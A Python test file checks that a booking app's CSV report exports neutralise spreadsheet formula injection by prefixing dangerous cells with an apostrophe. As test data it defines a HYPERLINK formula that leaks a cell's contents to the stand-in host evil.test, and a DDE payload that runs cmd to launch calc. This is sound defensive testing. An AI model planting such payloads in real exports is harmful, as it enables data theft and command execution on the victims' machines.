"""CSV exports neutralise cells a spreadsheet would run as a formula (OWASP "CSV
Injection": text starting with =, +, -, @, tab or carriage return gets a leading
apostrophe); the JSON form of the same report is unchanged (docs/design.md "Rules with
numbers"; docs/security.md)."""

import csv
import io

import pytest

from tests.factories import make_departure

API = "/api/v1/reports"
EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
EVIL_TITLE = "=cmd|' /C calc'!A0"


def paid_booking(app, client, actors, *, title: str, name: str = "Ann Lee") -> None:
    """A departure of a package titled `title`, booked by a customer named `name` and
    paid in cash (confirmed, so every report counts it)."""
    dep = make_departure(app, title=title)
    customer = actors.customer(name=name)
    response = client.post(
        "/api/v1/bookings",
        json={"departure_id": dep, "seats": 1},
        headers=customer["headers"],
    )
    assert response.status_code == 201, response.get_json()
    paid = client.post(
        f"/api/v1/bookings/{response.get_json()['id']}/payments",
        json={"amount": "1200.00", "method": "cash"},
        headers=actors.headers("finance"),
    )
    assert paid.status_code == 201, paid.get_json()


@pytest.fixture
def evil_booking(app, client, actors):
    paid_booking(app, client, actors, title=EVIL_TITLE, name=EVIL_NAME)


def report(client, headers, path: str, fmt: str):
    response = client.get(
        f"{API}/{path}", headers=headers, query_string={"format": fmt}
    )
    assert response.status_code == 200
    return response


@pytest.mark.parametrize(
    "path,column,value",
    [
        ("packages/popular", "package_title", EVIL_TITLE),
        ("customers/active", "customer_name", EVIL_NAME),
    ],
)
def test_csv_cells_starting_with_formula_characters_are_neutralised(
    client, actors, evil_booking, path, column, value
):
    headers = actors.headers("finance")
    rows = report(client, headers, path, "json").get_json()["rows"]
    assert [row[column] for row in rows] == [value]  # JSON unchanged

    text = report(client, headers, path, "csv").get_data(as_text=True)
    lines = list(csv.DictReader(io.StringIO(text)))
    assert [line[column] for line in lines] == ["'" + value]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character_is_neutralised(app, client, actors, prefix):
    paid_booking(app, client, actors, title=f"{prefix}SUM(1+1)")
    text = report(
        client, actors.headers("finance"), "packages/popular", "csv"
    ).get_data(as_text=True)
    line = next(csv.DictReader(io.StringIO(text)))
    assert line["package_title"] == f"'{prefix}SUM(1+1)"
    assert line["value"] == "1200.00"  # numbers stay numbers
